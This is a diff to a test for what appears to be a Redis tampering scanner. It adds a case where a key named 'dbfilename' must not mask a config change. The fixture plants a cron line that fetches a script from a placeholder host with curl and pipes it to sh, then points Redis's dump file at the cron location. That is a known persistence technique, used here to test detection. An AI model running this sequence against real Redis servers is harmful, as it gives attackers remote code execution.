@@ -48,7 +48,9 @@ def test_a_redis_that_was_made_to_write_cron_jobs(tmp_path: Path) -> None:
     line = "\n\n*/5 * * * * curl http://192.0.2.1/bc1qleftopencanary | sh\n\n"
     with start(redis.redis, program="wheel") as server:  # Redis 7 lets nobody change its dump file
         planted = [("SET", f"backup{n}", line) for n in range(1, 5)]
-        redis.fill(server, [*planted, ("CONFIG", "SET", "dbfilename", "root")])
+        # a key that is called as the setting is must not hide it
+        named_alike = ("RPUSH", "dbfilename", *range(5))
+        redis.fill(server, [*planted, named_alike, ("CONFIG", "SET", "dbfilename", "root")])
         told = scanned(server, tmp_path)["tampering"]
     assert told == [
         {"indicator": "redis.cron-keys", "family": "cron_job"},
